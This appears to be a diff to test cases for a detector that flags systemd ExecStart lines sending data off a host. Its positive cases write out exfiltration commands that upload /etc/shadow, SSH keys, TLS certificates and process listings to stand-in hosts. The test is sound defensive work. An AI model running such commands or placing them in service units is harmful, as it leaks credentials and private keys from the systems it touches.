@@ -43,12 +43,17 @@ export const sendsDataOut: ActivationRule = {
       timed("ExecStart=/usr/bin/curl -F f=@/etc/shadow http://192.0.2.7/"),
       timed("ExecStart=/bin/sh -c '(id; uname -a; ps aux) | curl -s -F f=@- https://paste.example.test/'"),
       timed("ExecStart=/usr/bin/curl -F f=@/srv/data http://192.0.2.7/"),
+      timed("ExecStart=/bin/sh -c 'curl -d \"$$(ps aux)\" https://c.example.test/'"),
       timed(
         "ExecStart=/bin/sh -c 'tar czf /srv/x.tgz /root/.ssh; curl -F f=@/srv/x.tgz https://api.example.test/'",
       ),
       timed("ExecStart=/bin/sh -c 'tar c /etc/letsencrypt | curl -F f=@- http://192.0.2.7/'"),
     ],
     quiet: [
+      timed("ExecStart=/bin/sh -c 'ps aux | curl -fsS --data-binary @- https://influx.example.test/write'"),
+      timed(
+        "ExecStart=/bin/sh -c 'id; uname -a; ps aux; df -P | curl -fsS --data-binary @- https://influx.example.test/write'",
+      ),
       timed("ExecStart=/usr/bin/curl -sT /var/backups/db.gz -u bkp: https://cloud.example.test/dav/"),
       timed("ExecStart=/usr/bin/curl --data-binary @/srv/metrics http://127.0.0.1:8086/write"),
       timed("ExecStart=/bin/sh -c 'tar c /etc/letsencrypt | ssh backup@192.0.2.7 dd of=x'"),
